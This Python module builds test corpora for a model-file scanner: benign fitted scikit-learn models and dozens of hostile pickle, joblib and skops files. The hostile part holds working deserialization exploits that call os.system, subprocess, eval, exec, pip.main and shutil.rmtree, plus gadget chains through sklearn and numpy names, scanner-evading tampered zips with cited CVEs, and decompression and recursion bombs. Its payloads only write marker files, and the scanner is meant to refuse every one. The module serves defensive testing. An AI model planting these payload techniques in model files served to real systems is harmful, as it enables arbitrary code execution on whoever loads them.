"""The hostile and benign corpora, generated (nothing hostile is committed as a file).

Every hostile case that carries a payload would, if it ever ran, write its own marker file;
``live`` says the payload is known to fire under plain ``pickle.loads`` / ``joblib.load``
(tests/registry/test_corpus.py proves it in a throwaway subprocess), so a scanner that lets it
through has let a working exploit through.
"""

from __future__ import annotations

import code
import copyreg
import cProfile
import dataclasses
import functools
import importlib
import io
import marshal
import operator
import os
import pickle
import profile
import pty
import pydoc
import random
import runpy
import shutil
import subprocess
import time
import timeit
import trace
import webbrowser
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import joblib
import numpy as np
import pandas as pd
import skops.io
from sklearn.calibration import CalibratedClassifierCV
from sklearn.cluster import KMeans
from sklearn.compose import ColumnTransformer
from sklearn.datasets import load_iris
from sklearn.ensemble import GradientBoostingClassifier, RandomForestClassifier
from sklearn.linear_model import LogisticRegression, Ridge
from sklearn.neighbors import KNeighborsClassifier
from sklearn.pipeline import make_pipeline
from sklearn.preprocessing import OneHotEncoder, StandardScaler
from sklearn.svm import SVC
from sklearn.tree import DecisionTreeClassifier


@dataclass(frozen=True)
class Case:
    name: str
    data: bytes
    fmt: str | None = None  # the declared format; None lets modelyard detect it
    live: bool = False  # the payload writes its marker under a plain load
    loader: str = "pickle"  # how a careless server would load it: pickle | joblib
    refuses: str | None = None  # the global (or skops node) the refusal must name


# What each payload's refusal names: the payload's own global, never only a bystander. Cases
# not listed are refused for their form (truncated, a bomb, a declared format that lies ...).
REFUSES = {
    **dict.fromkeys(["os-system-p0", "os-system-p2", "os-system-p4", "os-system-p5", "posix-system-global",
                     "copyreg-extension-code", "joblib-object-array", "joblib-zlib-object-array",
                     "joblib-gzip-plain-payload", "skops-with-untrusted-function", "skops-function-posix-system"],
                    "posix.system"),
    "subprocess-popen": "subprocess.Popen", "subprocess-check-output": "subprocess.check_output",
    "sklearn-testing-check-output": "subprocess.check_output", "builtins-eval": "builtins.eval",
    "builtins-exec": "builtins.exec", "builtins-open": "io.open", "builtins-import-getattr": "builtins.getattr",
    "builtin-eval-p2-name": "__builtin__.eval", "operator-methodcaller": "operator.methodcaller",
    "operator-attrgetter": "operator.attrgetter", "functools-partial": "functools.partial",
    "importlib-import-module": "importlib.import_module", "runpy-run-path": "runpy.run_path",
    "pydoc-locate": "pydoc.locate", "code-interpreter-runsource": "code.InteractiveInterpreter.runsource",
    "pty-spawn": "pty.spawn", "webbrowser-open": "webbrowser.open", "shutil-rmtree": "shutil.rmtree",
    "numpy-load-allow-pickle": "numpy.load", "numpy-testing-runstring": "numpy.testing._private.utils.runstring",
    "joblib-load-nested": "joblib.numpy_pickle.load", "stack-global-via-memo": "builtins.eval",
    "stack-global-computed-name": "STACK_GLOBAL", "inst-opcode": "os.system", "obj-opcode": "os.system",
    "persistent-id": "BINPERSID", "protocol-5-out-of-band-buffer": "NEXT_BUFFER", "build-patches-allowed-class": "sklearn.svm._classes.SVC",
    "reduce-on-a-non-global": "REDUCE", "joblib-xz-nested-arrays": "builtins.eval",
    "skops-zip-with-pickle-inside": "os.X", "marshal-code-object": "marshal.loads", "exec-compile": "builtins.exec",
    "os-popen": "os.popen", "timeit-timeit": "timeit.timeit", "cprofile-run": "cProfile.run",
    "profile-run": "profile.run", "trace-runctx": "trace.Trace.runctx",
    "numpy-f2py-myeval": "numpy.f2py.crackfortran.myeval", "pickle-loads-nested": "_pickle.loads",
    "dotted-name-from-allowed-module": "sklearn.svm._classes.np.f2py.crackfortran.myeval",
    "dotted-name-os-path-os-system": "os.path.os.system", "pip-main-install": "pip.main",
    "skops-method-node": "skops MethodNode", "skops-operator-func-node": "skops OperatorFuncNode",
    "skops-partial-node": "skops PartialNode", "skops-object-node-untrusted-class": "subprocess.Popen",
}


class Call:
    """Pickles as a call of ``func(*args)``: the shape of every pickle exploit."""

    def __init__(self, func: Any, *args: Any) -> None:
        self.func, self.args = func, args

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        return self.func, self.args

    def __call__(self) -> None:  # pickle insists that a reduce target is callable
        raise AssertionError("never called")


def _dump(obj: Any, protocol: int = 4) -> bytes:
    return pickle.dumps(obj, protocol=protocol)


def _joblib(obj: Any, compress: Any = 0) -> bytes:
    buffer = io.BytesIO()
    joblib.dump(obj, buffer, compress=compress)
    return buffer.getvalue()


def _s(text: str) -> bytes:
    raw = text.encode()
    return b"\x8c" + bytes([len(raw)]) + raw  # SHORT_BINUNICODE


def hostile(marker_dir: Path) -> list[Case]:
    """At least 30 files that must all be refused; each payload targets its own marker."""

    def m(name: str) -> str:
        return str(marker_dir / name)

    def touch(name: str) -> str:
        return f"touch {m(name)}"

    def py_write(name: str) -> str:
        return f"open({m(name)!r}, 'w').write('owned')"

    marker_dir.mkdir(parents=True, exist_ok=True)
    numpy_inner = marker_dir / "numpy-inner.pkl"
    numpy_inner.write_bytes(_dump(Call(os.system, touch("numpy-load-allow-pickle"))))
    joblib_inner = marker_dir / "joblib-inner.pkl"
    joblib_inner.write_bytes(_dump(Call(os.system, touch("joblib-load-nested"))))

    cases = [
        Case("os-system-p0", _dump(Call(os.system, touch("os-system-p0")), 0), live=True),
        Case("os-system-p2", _dump(Call(os.system, touch("os-system-p2")), 2), live=True),
        Case("os-system-p4", _dump(Call(os.system, touch("os-system-p4")), 4), live=True),
        Case("os-system-p5", _dump(Call(os.system, touch("os-system-p5")), 5), live=True),
        Case("posix-system-global", b"cposix\nsystem\n(V" + touch("posix-system-global").encode() + b"\ntR.", live=True),
        Case("subprocess-popen", _dump(Call(subprocess.Popen, ["touch", m("subprocess-popen")])), live=True),
        Case("subprocess-check-output", _dump(Call(subprocess.check_output, ["touch", m("subprocess-check-output")])), live=True),
        Case("builtins-eval", _dump(Call(eval, py_write("builtins-eval"))), live=True),
        Case("builtins-exec", _dump(Call(exec, py_write("builtins-exec"))), live=True),
        Case("builtins-open", _dump(Call(open, m("builtins-open"), "w")), live=True),
        Case("builtins-import-getattr", _dump(Call(Call(getattr, Call(__import__, "os"), "system"), touch("builtins-import-getattr"))), live=True),
        Case("builtin-eval-p2-name", b"c__builtin__\neval\n(V" + py_write("builtin-eval-p2-name").encode() + b"\ntR.", live=True),
        Case("operator-methodcaller", _dump(Call(Call(operator.methodcaller, "system", touch("operator-methodcaller")), Call(__import__, "os"))), live=True),
        Case("operator-attrgetter", _dump(Call(Call(Call(operator.attrgetter, "system"), Call(importlib.import_module, "os")), touch("operator-attrgetter"))), live=True),
        Case("functools-partial", _dump(Call(functools.partial(os.system, touch("functools-partial")))), live=True),
        Case("importlib-import-module", _dump(Call(Call(getattr, Call(importlib.import_module, "os"), "system"), touch("importlib-import-module"))), live=True),
        Case("runpy-run-path", _dump(Call(runpy.run_path, str(_script(marker_dir, "runpy-run-path", py_write("runpy-run-path"))))), live=True),
        Case("pydoc-locate", _dump(Call(Call(pydoc.locate, "os.system"), touch("pydoc-locate"))), live=True),
        Case("code-interpreter-runsource", _dump(Call(code.InteractiveInterpreter.runsource, Call(code.InteractiveInterpreter), py_write("code-interpreter-runsource"))), live=True),
        Case("pty-spawn", _dump(Call(pty.spawn, ["touch", m("pty-spawn")]))),
        Case("webbrowser-open", _dump(Call(webbrowser.open, "file://" + m("webbrowser-open")))),
        Case("shutil-rmtree", _dump(Call(shutil.rmtree, m("nothing-to-remove")))),
        Case("numpy-load-allow-pickle", _dump(Call(np.load, str(numpy_inner), None, True)), live=True),
        Case("numpy-testing-runstring", _dump(Call(_numpy_runstring(), py_write("numpy-testing-runstring"), {})), live=True),
        Case("sklearn-testing-check-output", _dump(Call(_sklearn_check_output(), ["touch", m("sklearn-testing-check-output")])), live=True),
        Case("joblib-load-nested", _dump(Call(joblib.load, str(joblib_inner))), live=True),
        Case("copyreg-extension-code", _extension_payload(touch("copyreg-extension-code"))),
        Case("stack-global-via-memo", _memo_payload(py_write("stack-global-via-memo")), live=True),
        Case("stack-global-computed-name", _computed_name_payload(touch("stack-global-computed-name"))),
        Case("inst-opcode", b"(V" + touch("inst-opcode").encode() + b"\nios\nsystem\n.", live=True),
        Case("obj-opcode", b"\x80\x02(cos\nsystem\nV" + touch("obj-opcode").encode() + b"\no.", live=True),
        Case("persistent-id", b"\x80\x02V" + touch("persistent-id").encode() + b"\nQ."),
        Case("protocol-5-out-of-band-buffer", pickle.dumps(pickle.PickleBuffer(b"\x00" * 64), protocol=5,
                                                            buffer_callback=lambda _buffer: False)),
        Case("build-patches-allowed-class", _build_on_class_payload()),
        Case("reduce-on-a-non-global", _reduce_non_global_payload()),
        Case("joblib-object-array", _joblib({"model": LogisticRegression(), "x": np.array([Call(os.system, touch("joblib-object-array"))], dtype=object)}), live=True, loader="joblib"),
        Case("joblib-zlib-object-array", _joblib(np.array([Call(os.system, touch("joblib-zlib-object-array"))], dtype=object), compress=3), live=True, loader="joblib"),
        Case("joblib-gzip-plain-payload", _joblib(Call(os.system, touch("joblib-gzip-plain-payload")), compress=("gzip", 3)), live=True, loader="joblib"),
        Case("joblib-xz-nested-arrays", _joblib([np.arange(3), {"inner": np.array([Call(eval, py_write("joblib-xz-nested-arrays"))], dtype=object)}], compress=("xz", 3)), live=True, loader="joblib"),
        Case("pickle-declared-as-skops", _dump(Call(os.system, touch("pickle-declared-as-skops"))), fmt="skops", live=True),
        Case("skops-declared-as-pickle", skops.io.dumps(LogisticRegression().fit([[0.0], [1.0]], [0, 1])), fmt="pickle"),
        Case("skops-with-untrusted-function", _skops_untrusted()),
        Case("skops-zip-with-pickle-inside", _zip_with_pickle(touch("skops-zip-with-pickle-inside"))),
        Case("truncated", _dump(LogisticRegression().fit([[0.0], [1.0]], [0, 1]))[:-7]),
        # Fixed bytes: about one random 512-byte string in 75 happens to read as a pickle picklescan
        # flags, which made the picklescan comparison flaky.
        Case("garbage", random.Random(0).randbytes(512)),
        Case("empty-stream", b"\x80\x04."),
        Case("memory-bomb-bytearray", b"\x80\x02cbuiltins\nbytearray\n\x8a\x05" + (10**11).to_bytes(5, "little") + b"\x85R."),
        Case("recursion-bomb-nested-lists", b"\x80\x02" + b"]" * 200_000 + b"a" * 199_999 + b"."),
        Case("decompression-bomb-joblib", _zlib_bomb()),
        # Techniques from public scanners' test suites (picklescan, modelscan, fickling) and
        # published loader exploits the cases above did not yet cover.
        Case("marshal-code-object", _code_object_payload(py_write("marshal-code-object")), live=True),  # MLflow sklearn flavour, CVE-2024-37052
        Case("exec-compile", _dump(Call(exec, Call(compile, py_write("exec-compile"), "<model>", "exec"))), live=True),  # BentoML CVE-2025-27520/32375 shape
        Case("os-popen", _dump(Call(os.popen, touch("os-popen"))), live=True),
        Case("timeit-timeit", _dump(Call(timeit.timeit, py_write("timeit-timeit"), "pass", time.perf_counter, 1)), live=True),
        Case("cprofile-run", _dump(Call(cProfile.run, py_write("cprofile-run"))), live=True),
        Case("profile-run", _dump(Call(profile.run, py_write("profile-run"))), live=True),
        Case("trace-runctx", _dump(Call(trace.Trace.runctx, Call(trace.Trace, 0, 0), py_write("trace-runctx"), {}, {})), live=True),
        Case("numpy-f2py-myeval", _dump(Call(_numpy_myeval(), py_write("numpy-f2py-myeval"))), live=True),
        Case("pickle-loads-nested", _dump(Call(pickle.loads, _dump(Call(os.system, touch("pickle-loads-nested"))))), live=True),
        Case("dotted-name-from-allowed-module", _dotted_payload("sklearn.svm._classes", "np.f2py.crackfortran.myeval", py_write("dotted-name-from-allowed-module") + " and 1"), live=True),
        Case("dotted-name-os-path-os-system", _dotted_payload("os", "path.os.system", touch("dotted-name-os-path-os-system")), live=True),
        Case("pip-main-install", _dump(Call(_pip_main(), ["install", "--no-index", "modelyard-nonexistent-package"]))),  # picklescan CVE-2025-1716
        Case("zip-local-name-mismatch", _zip_tampered(_dump(Call(os.system, touch("zip-local-name-mismatch"))), "name"), fmt="skops"),  # picklescan CVE-2025-1944
        Case("zip-encrypted-flag", _zip_tampered(_dump(Call(os.system, touch("zip-encrypted-flag"))), "flag"), fmt="skops"),  # picklescan CVE-2025-1945
        Case("skops-method-node", _skops_tampered(touch("skops-method-node"), "method")),  # CVE-2025-54413
        Case("skops-operator-func-node", _skops_tampered(touch("skops-operator-func-node"), "operator")),  # CVE-2025-54412
        Case("skops-partial-node", _skops_tampered(touch("skops-partial-node"), "partial")),
        Case("skops-function-posix-system", _skops_tampered(touch("skops-function-posix-system"), "function")),  # CVE-2024-37065 shape
        Case("skops-object-node-untrusted-class", _skops_tampered(touch("skops-object-node-untrusted-class"), "object")),
        # Archives zipfile and another reader would see differently, or zipfile cannot read at all.
        *[Case(f"skops-zip-{how}", skops_broken(how)) for how in BROKEN_ZIPS],
    ]
    return [dataclasses.replace(case, refuses=REFUSES.get(case.name)) for case in cases]


def _script(marker_dir: Path, name: str, body: str) -> Path:
    path = marker_dir / f"{name}.py"
    path.write_text(body + "\n")
    return path


def _numpy_runstring() -> Callable[..., Any]:
    from numpy.testing._private import utils

    return utils.runstring


def _sklearn_check_output() -> Callable[..., Any]:
    from sklearn.utils import _testing

    return _testing.check_output  # subprocess.check_output, reachable under a sklearn name


def _numpy_myeval() -> Callable[..., Any]:
    from numpy.f2py import crackfortran

    return crackfortran.myeval  # eval() under a numpy name: why no numpy.* prefix is allowed


def _pip_main() -> Callable[..., Any]:
    import pip

    return pip.main


def _code_object_payload(source: str) -> bytes:
    """types.FunctionType(marshal.loads(code), {})(): how cloudpickle-style files carry code."""
    code_bytes = marshal.dumps(compile(source, "<model>", "exec"))
    code = _s("marshal") + _s("loads") + b"\x93" + b"B" + len(code_bytes).to_bytes(4, "little") + code_bytes + b"\x85R"
    globals_ = _s("builtins") + _s("dict") + b"\x93)R"
    return b"\x80\x04" + _s("types") + _s("FunctionType") + b"\x93" + code + globals_ + b"\x86R)R."


def _dotted_payload(module: str, dotted: str, argument: str) -> bytes:
    """STACK_GLOBAL with a dotted name: find_class walks the attributes, from an allowed
    module to eval (sklearn.svm._classes -> np.f2py.crackfortran.myeval)."""
    return b"\x80\x04" + _s(module) + _s(dotted) + b"\x93" + _s(argument) + b"\x85R."


def _zip_tampered(payload: bytes, how: str) -> bytes:
    """A zip around a pickle, broken the ways that made scanners skip its members: the local
    header names another file than the directory does, or the encrypted flag is set."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("schema.json", "{}")
        archive.writestr("data.pkl", payload)
    data = bytearray(buffer.getvalue())
    local = data.find(b"PK\x03\x04", 1)  # the second member's local header
    if how == "name":
        data[local + 30 : local + 38] = b"data.txt"
    else:
        data[local + 6] |= 0x01
    return bytes(data)


def _skops_tampered(command: str, how: str) -> bytes:
    """A real skops file (FunctionTransformer + LogisticRegression) whose transformer's func is
    rewritten in schema.json into a node that would run ``command`` at predict time."""
    import json

    from sklearn.preprocessing import FunctionTransformer

    model = make_pipeline(FunctionTransformer(np.log1p), LogisticRegression()).fit([[0.0], [1.0]], [0, 1])
    nodes = {
        "method": {"__class__": "str", "__module__": "builtins", "__loader__": "MethodNode",
                   "content": {"func": "format", "obj": {"__class__": "str", "__module__": "builtins",
                                                         "__loader__": "JsonNode", "content": json.dumps(command),
                                                         "is_json": True}}},
        "operator": {"__class__": "methodcaller", "__module__": "operator", "__loader__": "OperatorFuncNode",
                     "attrs": {"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode",
                               "content": [{"__class__": "str", "__module__": "builtins", "__loader__": "JsonNode",
                                            "content": json.dumps("system"), "is_json": True}]}},
        "partial": {"__class__": "partial", "__module__": "functools", "__loader__": "PartialNode",
                    "content": {"func": {"__class__": "system", "__module__": "posix", "__loader__": "FunctionNode"},
                                "args": {"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode",
                                         "content": [{"__class__": "str", "__module__": "builtins",
                                                      "__loader__": "JsonNode", "content": json.dumps(command),
                                                      "is_json": True}]},
                                "kwds": None, "namespace": None}},
        "function": {"__class__": "system", "__module__": "posix", "__loader__": "FunctionNode"},
        "object": {"__class__": "Popen", "__module__": "subprocess", "__loader__": "ObjectNode",
                   "content": {"__class__": "dict", "__module__": "builtins", "__loader__": "DictNode",
                               "content": {}, "key_types": {"__class__": "list", "__module__": "builtins",
                                                            "__loader__": "ListNode", "content": []}}},
    }
    source = io.BytesIO(skops.io.dumps(model))
    buffer = io.BytesIO()
    with zipfile.ZipFile(source) as src, zipfile.ZipFile(buffer, "w") as dst:
        for info in src.infolist():
            content = src.read(info.filename)
            if info.filename == "schema.json":
                schema = json.loads(content)
                step = schema["content"]["content"]["steps"]["content"][0]["content"][1]
                step["content"]["content"]["func"] = nodes[how]
                content = json.dumps(schema).encode()
            dst.writestr(info.filename, content)
    return buffer.getvalue()


# How a real skops file is broken, and what its refusal says.
BROKEN_ZIPS = {
    "schema-encrypted": "member 'schema.json' is encrypted",
    "schema-strong-encryption": "member 'schema.json' is encrypted",
    "masked-directory": "member 'schema.json' is encrypted",
    "unsupported-method": "member 'schema.json' uses compression method 99",
    "local-name-differs": "the local header disagrees with the central directory (name 'schema.jsoN')",
    "local-crc-differs": "the local header disagrees with the central directory (CRC)",
    "local-size-differs": "the local header disagrees with the central directory (sizes)",
    "local-method-differs": "the local header disagrees with the central directory (compression method 8 against 0)",
    "duplicate-member": "member names appear more than once: 'schema.json'",
    "escaping-name": "member name '../../schema.json' escapes the archive",
    "absolute-name": "member name '/etc/cron.d/model' escapes the archive",
    "overlapping-members": "overlaps member 'inner.npy'",
    "truncated-directory": "not a valid zip file",
}


def skops_broken(how: str) -> bytes:
    """A real skops file (a fitted LogisticRegression) broken as ``how`` names (see BROKEN_ZIPS)."""
    import warnings

    data = bytearray(skops.io.dumps(LogisticRegression().fit([[0.0], [1.0]], [0, 1])))
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        members = {info.filename: archive.read(info) for info in archive.infolist()}
        local = archive.getinfo("schema.json").header_offset
    central = data.find(b"PK\x01\x02")
    while data[central + 46:central + 46 + len("schema.json")] != b"schema.json":
        central = data.find(b"PK\x01\x02", central + 1)
    both = (local + 6, central + 8)  # the flags field; the method follows it
    if how in ("schema-encrypted", "schema-strong-encryption", "masked-directory"):
        bit = {"schema-encrypted": 0x01, "schema-strong-encryption": 0x41, "masked-directory": 0x2000}[how]
        for at in both:
            data[at:at + 2] = (int.from_bytes(data[at:at + 2], "little") | bit).to_bytes(2, "little")
    elif how == "unsupported-method":
        for at in both:
            data[at + 2:at + 4] = (99).to_bytes(2, "little")
    elif how == "local-name-differs":
        data[local + 30 + len("schema.json") - 1] = ord("N")
    elif how == "local-crc-differs":
        data[local + 14] ^= 0x01
    elif how == "local-size-differs":
        data[local + 22] ^= 0x01
    elif how == "local-method-differs":
        data[local + 8:local + 10] = (8).to_bytes(2, "little")
    elif how == "truncated-directory":
        del data[central + 20:]
    elif how in ("duplicate-member", "escaping-name", "absolute-name"):
        extra_name = {"duplicate-member": "schema.json", "escaping-name": "../../schema.json",
                      "absolute-name": "/etc/cron.d/model"}[how]
        buffer = io.BytesIO()
        with warnings.catch_warnings(), zipfile.ZipFile(buffer, "w") as archive:
            warnings.simplefilter("ignore")  # zipfile warns of the duplicate it is asked to write
            for name, content in members.items():
                archive.writestr(name, content)
            archive.writestr(zipfile.ZipInfo(extra_name), b'{"__class__": "system", "__module__": "posix", '
                                                           b'"__loader__": "FunctionNode"}')
        return buffer.getvalue()
    elif how == "overlapping-members":
        return _nested_zip(members["schema.json"])
    else:
        raise ValueError(how)
    return bytes(data)


def _nested_zip(schema: bytes) -> bytes:
    """schema.json's stored data is itself a whole local record of another member (inner.npy), which
    the central directory also lists: two members share bytes (the overlapping-files zip bomb)."""
    import struct
    import zlib

    def local(name: bytes, content: bytes) -> bytes:
        return struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 0, 0, 0x21, zlib.crc32(content), len(content),
                           len(content), len(name), 0) + name + content

    def central(name: bytes, content: bytes, offset: int) -> bytes:
        return struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, 0, 0, 0x21, zlib.crc32(content),
                           len(content), len(content), len(name), 0, 0, 0, 0, 0o600 << 16, offset) + name

    inner = local(b"inner.npy", schema)
    outer = local(b"schema.json", inner)
    directory = central(b"schema.json", inner, 0) + central(b"inner.npy", schema, 30 + len(b"schema.json"))
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 2, 2, len(directory), len(outer), 0)
    return outer + directory + end


def _extension_payload(command: str) -> bytes:
    copyreg.add_extension("os", "system", 0x7A)
    try:
        return _dump(Call(os.system, command), 2)
    finally:
        copyreg.remove_extension("os", "system", 0x7A)


def _memo_payload(source: str) -> bytes:
    """STACK_GLOBAL whose names come back from the memo, after being popped once."""
    return (b"\x80\x04" + _s("builtins") + b"\x94" + _s("eval") + b"\x94" + b"00"
            + b"h\x00h\x01\x93" + _s(source) + b"\x85R.")


def _computed_name_payload(command: str) -> bytes:
    """STACK_GLOBAL whose module name is the result of a call (str('os')), not a literal."""
    return (b"\x80\x04" + _s("builtins") + _s("str") + b"\x93" + _s("os") + b"\x85R"
            + _s("system") + b"\x93" + _s(command) + b"\x85R.")


def _build_on_class_payload() -> bytes:
    """BUILD with slot state on an allowed class: would set SVC.predict for every SVC."""
    return (b"\x80\x04" + _s("sklearn.svm._classes") + _s("SVC") + b"\x93"
            + b"N}" + _s("predict") + b"N" + b"s\x86b.")


def _reduce_non_global_payload() -> bytes:
    """REDUCE whose callable is an object built from allowed pieces, not a global."""
    return (b"\x80\x04" + _s("builtins") + _s("list") + b"\x93" + b")R" + b")R.")


def _skops_untrusted() -> bytes:
    from sklearn.preprocessing import FunctionTransformer

    model = make_pipeline(FunctionTransformer(os.system), LogisticRegression())
    return skops.io.dumps(model)


def _zip_with_pickle(command: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("schema.json", '{"__class__": "X", "__module__": "os", "__loader__": "ObjectNode"}')
        archive.writestr("data.pkl", _dump(Call(os.system, command)))
    return buffer.getvalue()


def _zlib_bomb() -> bytes:
    """A joblib-zlib container whose one literal claims 10^12 bytes and expands to 256 MiB of
    zeros (the corpus test caps expansion at 64 MiB)."""
    import zlib

    packer = zlib.compressobj(9)
    chunks = [packer.compress(b"\x80\x04\x8e" + (10**12).to_bytes(8, "little"))]
    zeros = bytes(1 << 20)
    chunks += [packer.compress(zeros) for _ in range(256)]
    chunks.append(packer.flush())
    return b"".join(chunks)


# --- benign ------------------------------------------------------------------------------------


def benign() -> list[tuple[str, bytes, str | None, dict[str, Any], list[Any]]]:
    """Real estimators and pipelines in every format: (name, bytes, declared format, a record,
    the estimator's own prediction for it)."""
    iris = load_iris(as_frame=True)
    frame, target = iris.data, iris.target
    X = frame.to_numpy()
    numeric_record = {f"x{i}": v for i, v in enumerate(X[120])}  # a virginica: not class 0
    frame_record = dict(zip(frame.columns, X[120]))

    mixed = pd.DataFrame({"colour": ["red", "blue", "red", "green"] * 10, "size": np.arange(40, dtype=float)})
    mixed_target = [0, 1, 0, 1] * 10
    column_model = make_pipeline(
        ColumnTransformer([("onehot", OneHotEncoder(handle_unknown="ignore"), ["colour"])], remainder="passthrough"),
        LogisticRegression(max_iter=500),
    ).fit(mixed, mixed_target)

    models: list[tuple[str, Any, dict[str, Any]]] = [
        ("svc-linear", SVC(kernel="linear").fit(X, target), numeric_record),
        ("calibrated-svc", CalibratedClassifierCV(SVC(), ensemble=False).fit(X, target), numeric_record),
        ("logistic-regression", LogisticRegression(max_iter=500).fit(X, target), numeric_record),
        ("random-forest", RandomForestClassifier(n_estimators=5, random_state=0).fit(X, target), numeric_record),
        ("gradient-boosting", GradientBoostingClassifier(n_estimators=5, random_state=0).fit(X, target), numeric_record),
        ("kmeans", KMeans(n_clusters=3, n_init=2, random_state=0).fit(X), numeric_record),
        ("decision-tree", DecisionTreeClassifier(random_state=0).fit(X, target), numeric_record),
        ("knn", KNeighborsClassifier().fit(X, target), numeric_record),
        ("ridge", Ridge().fit(X, X[:, 0]), numeric_record),
        ("pipeline-scaler-svc", make_pipeline(StandardScaler(), SVC()).fit(X, target), numeric_record),
        ("logreg-on-dataframe", LogisticRegression(max_iter=500).fit(frame, target), frame_record),
        ("forest-on-dataframe", RandomForestClassifier(n_estimators=3, random_state=0).fit(frame, target), frame_record),
        ("columntransformer-onehot", column_model, {"colour": "blue", "size": 3.0}),
    ]
    cases: list[tuple[str, bytes, str | None, dict[str, Any], list[Any]]] = []
    for name, model, record in models:
        cases.append((f"{name}-p5", _dump(model, 5), None, record, _own_prediction(model, record)))
    # Every format and protocol, on a few representative models.
    for name, model, record in models[:1] + models[3:4] + models[10:11] + models[12:]:
        expected = _own_prediction(model, record)
        cases.append((f"{name}-p2", _dump(model, 2), "pickle", record, expected))
        cases.append((f"{name}-p3", _dump(model, 3), None, record, expected))
        cases.append((f"{name}-p4", _dump(model, 4), None, record, expected))
        cases.append((f"{name}-joblib", _joblib(model), "joblib", record, expected))
        cases.append((f"{name}-joblib-zlib", _joblib(model, compress=3), None, record, expected))
        cases.append((f"{name}-joblib-lzma", _joblib(model, compress=("lzma", 3)), None, record, expected))
        cases.append((f"{name}-skops", skops.io.dumps(model), "skops", record, expected))
    return cases


def _own_prediction(model: Any, record: dict[str, Any]) -> list[Any]:
    """What the estimator itself predicts for ``record`` (a DataFrame row when it was fitted on one)."""
    if hasattr(model, "feature_names_in_"):
        return model.predict(pd.DataFrame([record])).tolist()
    return model.predict(np.array([list(record.values())], dtype=float)).tolist()
